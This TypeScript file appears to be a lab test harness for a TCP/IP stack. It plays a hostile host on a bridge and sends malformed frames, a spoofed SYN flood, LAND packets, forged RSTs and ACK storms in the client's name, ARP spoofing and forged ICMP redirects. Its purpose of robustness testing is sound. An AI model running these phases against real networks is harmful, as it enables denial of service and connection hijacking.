/**
 * A host on the lab's bridge that means no good. Started as `attacker.js BRIDGE ADDRESS PORT CLIENT [PHASE…]` in the switch's
 * namespace; it hears every frame, as everybody here does, and so knows the numbers of the client's connections. Prints a
 * line of JSON for each phase, and ends with 0.
 */
import { spawnSync } from 'node:child_process'
import { setTimeout as delay } from 'node:timers/promises'
import { parseIpv4Address } from '../../stack/index.js'
import { Tap } from '../../stack/io/tap.js'
import type { Frame } from '../../stack/wire/frame.js'
import { HEADROOM } from '../../stack/wire/frame.js'
import {
  ACK,
  CWR,
  ECE,
  encodeArp,
  encodeEthernet,
  encodeIcmp,
  encodeIp,
  encodeTcp,
  FIN,
  PROTOCOL,
  PSH,
  RST,
  SYN,
  type TcpFields,
  URG,
} from '../packet/codec.js'

const [, , bridge = '', address = '', portText = '', clientText = '', ...chosen] = process.argv
const VIRTUAL = parseIpv4Address(address)
const CLIENT = parseIpv4Address(clientText)
const PORT = Number(portText)
const OWN = parseIpv4Address(`${address.split('.').slice(0, 3).join('.')}.66`)
const OWN_MAC = 0x02_66_66_66_66_66
const BROADCAST = 0xffff_ffff_ffff
const ETHERTYPE_IPV4 = 0x0800
const ETHERTYPE_ARP = 0x0806

/** The client's connection that was heard last, as the client's last segment left it. */
const heard = { clientMac: BROADCAST, ownerMac: BROADCAST, port: 0, seq: 0, ack: 0, ts: 0 }
/** What the owner said to us last. */
const answer = { port: 0, seq: 0, ack: 0, flags: 0 }

const tap = new Tap({ name: 'us-evil', mac: OWN_MAC })
tap.attach({ onFrame: hear, onBatchEnd: () => {} })
const joined = spawnSync('ip', ['link', 'set', 'us-evil', 'master', bridge])
if (joined.status !== 0) throw new Error(`cannot join ${bridge}: ${joined.stderr}`)

function hear(frame: Frame): void {
  const { view, start } = frame
  if (frame.length < 54 || view.getUint16(start + 12) !== ETHERTYPE_IPV4) return
  if (view.getUint8(start + 23) !== PROTOCOL.TCP) return
  const tcp = start + 14 + 4 * (view.getUint8(start + 14) & 15)
  const [src, dst] = [view.getInt32(start + 26), view.getInt32(start + 30)]
  const mac = view.getUint16(start + 6) * 2 ** 32 + view.getUint32(start + 8)
  if (src === CLIENT && dst === VIRTUAL && view.getUint16(tcp + 2) === PORT) {
    const text =
      view.getUint16(start + 16) - (tcp - start - 14) - 4 * (view.getUint8(tcp + 12) >> 4)
    heard.clientMac = mac
    heard.port = view.getUint16(tcp)
    heard.seq = (view.getUint32(tcp + 4) + text) >>> 0
    heard.ack = view.getUint32(tcp + 8)
  } else if (src === VIRTUAL) {
    heard.ownerMac = mac
    if (dst !== OWN) return
    answer.port = view.getUint16(tcp + 2)
    answer.seq = view.getUint32(tcp + 4)
    answer.ack = view.getUint32(tcp + 8)
    answer.flags = view.getUint8(tcp + 13)
  }
}

let seed = 1
function below(n: number): number {
  seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0
  return Math.floor((seed / 2 ** 32) * n)
}

let sent = 0
async function send(bytes: Buffer): Promise<void> {
  const frame = tap.txFrame()
  const length = Math.min(bytes.length, 1514)
  frame.bytes.set(bytes.subarray(0, length), HEADROOM)
  frame.start = HEADROOM
  frame.end = HEADROOM + length
  tap.transmit(frame)
  if (++sent % 64 !== 0) return
  tap.flush()
  await delay(1)
}

function ip(payload: Buffer, src = OWN, protocol: number = PROTOCOL.TCP): Promise<void> {
  const packet = encodeIp(src, VIRTUAL, protocol, payload)
  return send(encodeEthernet(heard.ownerMac, OWN_MAC, ETHERTYPE_IPV4, packet))
}

function tcp(fields: Partial<TcpFields> & { flags: number }, src = OWN): Promise<void> {
  const whole = {
    srcPort: 6666,
    dstPort: PORT,
    seq: 1,
    ack: 0,
    wnd: 1000,
    text: Buffer.alloc(0),
    ...fields,
  }
  return ip(encodeTcp(whole, src, VIRTUAL), src)
}

/** A segment in the name of the client, on its connection. */
function forged(fields: Partial<TcpFields> & { flags: number }): Promise<void> {
  return tcp({ srcPort: heard.port, seq: heard.seq, ack: heard.ack, ...fields }, CLIENT)
}

function noise(length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => below(256)))
}

/** Opens a connection of our own; resolves with its numbers when it is answered. */
async function open(
  port: number,
  options: Partial<TcpFields> = {},
): Promise<{ seq: number; ack: number }> {
  answer.flags = 0
  await tcp({ flags: SYN, srcPort: port, seq: 1000, mss: 1460, ...options })
  tap.flush()
  for (let i = 0; i < 100 && !(answer.port === port && answer.flags === (SYN | ACK)); i++)
    await delay(2)
  const ack = (answer.seq + 1) >>> 0
  await tcp({ flags: ACK, srcPort: port, seq: 1001, ack })
  return { seq: 1001, ack }
}

const PHASES: Record<string, () => Promise<void>> = {
  async garbage() {
    for (let i = 0; i < 3000; i++) {
      const type = [ETHERTYPE_IPV4, ETHERTYPE_ARP, 0x86dd, 0x8100, 0x88b5, below(65_536)][
        i % 6
      ] as number
      await send(encodeEthernet(heard.ownerMac, OWN_MAC, type, noise(below(200))))
    }
  },
  async headers() {
    for (let i = 0; i < 3000; i++) {
      const fields = {
        srcPort: 1,
        dstPort: PORT,
        seq: 1,
        ack: 1,
        flags: below(256),
        wnd: 1,
        text: noise(below(40)),
      }
      const packet = encodeIp(OWN, VIRTUAL, PROTOCOL.TCP, encodeTcp(fields, OWN, VIRTUAL))
      packet[below(40)] = below(256)
      const cut = i % 3 === 0 ? packet.subarray(0, below(packet.length)) : packet
      await send(encodeEthernet(heard.ownerMac, OWN_MAC, ETHERTYPE_IPV4, cut))
    }
  },
  async options() {
    for (let i = 0; i < 2000; i++) {
      await tcp({
        flags: i % 2 === 0 ? SYN : ACK,
        srcPort: 1024 + i,
        rawOptions: [...noise(below(10) * 4)],
      })
    }
  },
  async fragments() {
    for (let i = 0; i < 4000; i++) {
      const packet = encodeIp(
        i % 2 === 0 ? OWN : CLIENT,
        VIRTUAL,
        PROTOCOL.TCP,
        noise(8 + below(64)),
      )
      packet.writeUInt16BE(below(50), 4)
      packet.writeUInt16BE((below(2) << 13) | below(i % 3 === 0 ? 3 : 8192), 6)
      packet.writeUInt16BE(0, 10)
      let sum = 0
      for (let at = 0; at < 20; at += 2) sum += packet.readUInt16BE(at)
      while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16)
      packet.writeUInt16BE(~sum & 0xffff, 10)
      await send(encodeEthernet(heard.ownerMac, OWN_MAC, ETHERTYPE_IPV4, packet))
    }
  },
  async land() {
    for (let i = 0; i < 500; i++) await tcp({ flags: SYN, srcPort: PORT, seq: i }, VIRTUAL)
  },
  async synFlood() {
    for (let i = 0; i < 20_000; i++) {
      await tcp(
        { flags: SYN, srcPort: 1024 + below(60_000), seq: below(2 ** 31), mss: 1460 },
        (OWN + 1 + below(90)) as never,
      )
    }
  },
  async resets() {
    // All but the exact number, which only who sees it knows.
    for (let i = 0; i < 3000; i++) {
      const off = i % 2 === 0 ? 1 + below(60_000) + 70_000 : below(2 ** 31)
      await forged({ flags: i % 4 === 3 ? SYN : RST, seq: (heard.seq + off + 1) >>> 0 })
    }
  },
  async ackStorm() {
    for (let i = 0; i < 5000; i++) {
      await forged({ flags: ACK, ack: (heard.ack + 100_000 + below(2 ** 30)) >>> 0 })
      await forged({
        flags: ACK | PSH,
        seq: (heard.seq + 2 ** 24 + below(2 ** 30)) >>> 0,
        text: noise(20),
      })
    }
  },
  async optimisticAck() {
    const c = await open(7001)
    for (let i = 0; i < 300; i++) {
      await tcp({
        flags: ACK | PSH,
        srcPort: 7001,
        seq: (c.seq + 1000 * i) >>> 0,
        ack: (c.ack + 1000 * (i + 5)) >>> 0,
        wnd: 65_535,
        text: noise(1000),
      })
    }
  },
  async tinySegments() {
    const c = await open(7002, { mss: 1 })
    await tcp({
      flags: ACK | PSH,
      srcPort: 7002,
      seq: c.seq,
      ack: c.ack,
      wnd: 65_535,
      text: noise(1400),
    })
    for (let i = 0; i < 5000; i++) {
      await tcp({
        flags: ACK,
        srcPort: 7002,
        seq: (c.seq + 1500 + 2 * below(20_000)) >>> 0,
        ack: c.ack,
        text: Buffer.from('x'),
      })
    }
  },
  async windows() {
    const c = await open(7003)
    await tcp({
      flags: ACK | PSH,
      srcPort: 7003,
      seq: c.seq,
      ack: c.ack,
      wnd: 65_535,
      text: noise(1400),
    })
    for (let i = 0; i < 1000; i++) {
      await tcp({
        flags: ACK,
        srcPort: 7003,
        seq: (c.seq + 1400) >>> 0,
        ack: c.ack,
        wnd: i % 3 === 0 ? 0 : below(65_536),
      })
    }
  },
  async paws() {
    const c = await open(7004, { ts: [1_000_000, 0] })
    for (let i = 0; i < 1000; i++) {
      await tcp({
        flags: ACK | PSH,
        srcPort: 7004,
        seq: c.seq,
        ack: c.ack,
        text: noise(10),
        ts: [below(2 ** 31), below(2 ** 31)],
      })
    }
  },
  async arp() {
    // Who claims the address, claims somebody else's, or asks without end.
    for (let i = 0; i < 1000; i++) {
      const senderIp = [OWN, VIRTUAL, CLIENT][i % 3] as number
      const fields = {
        operation: 1 + (i % 2),
        senderMac: OWN_MAC + below(1000),
        senderIp,
        targetMac: 0,
        targetIp: VIRTUAL,
      }
      await send(
        encodeEthernet(
          i % 5 === 0 ? BROADCAST : heard.ownerMac,
          OWN_MAC,
          ETHERTYPE_ARP,
          encodeArp(fields),
        ),
      )
    }
  },
  async icmp() {
    for (let i = 0; i < 2000; i++) {
      const fields = {
        srcPort: PORT,
        dstPort: heard.port,
        seq: (heard.ack + below(2 ** 20)) >>> 0,
        ack: 0,
        flags: ACK,
        wnd: 0,
        text: Buffer.alloc(0),
      }
      const quote = encodeIp(
        VIRTUAL,
        CLIENT,
        PROTOCOL.TCP,
        encodeTcp(fields, VIRTUAL, CLIENT),
      ).subarray(0, 28)
      const [type, code, rest] = [
        [3, 1, 0],
        [3, 4, 68],
        [3, 3, 0],
        [5, 1, OWN],
        [11, 0, 0],
        [4, 0, 0],
        [8, 0, i],
      ][i % 7] as [number, number, number]
      await ip(encodeIcmp(type, code, rest, quote), OWN, PROTOCOL.ICMP)
    }
  },
  async flags() {
    for (let i = 0; i < 3000; i++) {
      await forged({
        flags: (i % 256) & ~RST & ~FIN,
        seq: (heard.seq + 2 ** 25 + below(2 ** 25)) >>> 0,
      })
      await tcp({
        flags: [0, FIN, URG | PSH | FIN, SYN | FIN, SYN | RST, ECE | CWR | SYN, 255][
          i % 7
        ] as number,
        srcPort: below(65_536),
      })
    }
  },
}

for (let i = 0; i < 500 && heard.port === 0; i++) await delay(10)
if (heard.port === 0) throw new Error('no connection of the client is heard')
for (const [name, phase] of Object.entries(PHASES)) {
  if (chosen.length > 0 && !chosen.includes(name)) continue
  const before = sent
  await phase()
  tap.flush()
  await delay(50)
  process.stdout.write(`${JSON.stringify({ phase: name, frames: sent - before })}\n`)
}
tap.close()
